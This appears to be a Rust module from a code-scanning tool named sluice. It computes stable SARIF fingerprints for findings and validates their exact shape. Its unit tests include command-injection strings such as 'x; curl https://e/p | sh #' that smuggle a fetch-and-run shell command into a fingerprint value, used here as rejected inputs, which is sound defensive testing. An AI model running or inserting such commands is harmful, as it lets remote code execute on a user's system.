//! `partialFingerprints["sluice/v1"]`: the identity of a finding across commits.
//!
//! Invariant: the fingerprint never depends on a line or column number. It is a hash of the rule
//! id, the repository-relative path and the finding's content with all whitespace removed, plus
//! an occurrence index that tells apart identical findings in one file (counted in file order).
//! So inserting unrelated lines above a finding, or re-indenting it, keeps its fingerprint; editing
//! the flagged code changes it.

use std::collections::HashMap;

use serde_sarif::sarif::Result as SarifResult;
use sha2::{Digest, Sha256};

use crate::keys;

/// The content with every whitespace character removed, so reformatting does not change identity.
pub fn normalize_content(content: &str) -> String {
    content.chars().filter(|c| !c.is_whitespace()).collect()
}

/// Hex SHA-256 of already normalized (or opaque, e.g. a secret's hash) content.
pub fn content_hash(content: &str) -> String {
    hex::encode(Sha256::digest(content.as_bytes()))
}

/// Whether a value has the exact shape of a `sluice/v1` fingerprint: 32 lowercase hex digits,
/// `:`, an occurrence number from 1 without leading zeros. Anything else in a log did not come
/// from sluice and is not offered as a command argument to paste (`sluice triage mark …`).
pub fn is_sluice_fingerprint(value: &str) -> bool {
    let Some((hash, occurrence)) = value.split_once(':') else {
        return false;
    };
    hash.len() == 32
        && hash.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
        && !occurrence.is_empty()
        && occurrence.len() <= 10
        && occurrence.bytes().all(|b| b.is_ascii_digit())
        && !occurrence.starts_with('0')
}

fn base_fingerprint(rule_id: &str, path: &str, content_hash: &str) -> String {
    let mut hasher = Sha256::new();
    for part in [rule_id, path, content_hash] {
        hasher.update(part.as_bytes());
        // A separator that cannot occur in any part keeps ("ab","c") and ("a","bc") apart.
        hasher.update([0u8]);
    }
    hex::encode(&hasher.finalize()[..16])
}

/// Sets `sluice/v1` on every result from `(rule id, path, content hash)` triples, one per
/// result. Results must already be in file order (see `sort_results`) so occurrence indexes
/// are stable. Existing `sluice/v1` values are replaced: the fingerprint is sluice's to define.
pub fn assign_fingerprints<'r>(
    results: impl IntoIterator<Item = &'r mut SarifResult>,
    keys: &[(String, String, String)],
) {
    let mut seen: HashMap<String, u32> = HashMap::with_capacity(keys.len());
    for (result, (rule_id, path, hash)) in results.into_iter().zip(keys) {
        let base = base_fingerprint(rule_id, path, hash);
        let occurrence = seen.entry(base.clone()).or_insert(0);
        *occurrence += 1;
        result
            .partial_fingerprints
            .get_or_insert_with(Default::default)
            .insert(keys::FINGERPRINT.to_owned(), format!("{base}:{occurrence}"));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whitespace_is_not_identity() {
        assert_eq!(normalize_content("  eval( x )\n"), normalize_content("eval(x)"));
        assert_ne!(normalize_content("eval(x)"), normalize_content("eval(y)"));
    }

    #[test]
    fn fingerprint_shape() {
        let base = base_fingerprint("r", "p", "c");
        assert!(is_sluice_fingerprint(&format!("{base}:1")));
        assert!(is_sluice_fingerprint(&format!("{base}:12")));
        for bad in [
            base.clone(),
            format!("{base}:0"),
            format!("{base}:01"),
            format!("{base}:1; curl x | sh"),
            format!("{}:1", base.to_uppercase()),
            format!("{base}0:1"),
            "x; curl https://e/p | sh #".to_owned(),
        ] {
            assert!(!is_sluice_fingerprint(&bad), "{bad}");
        }
    }

    #[test]
    fn parts_are_separated() {
        assert_ne!(base_fingerprint("ab", "c", "d"), base_fingerprint("a", "bc", "d"));
    }
}
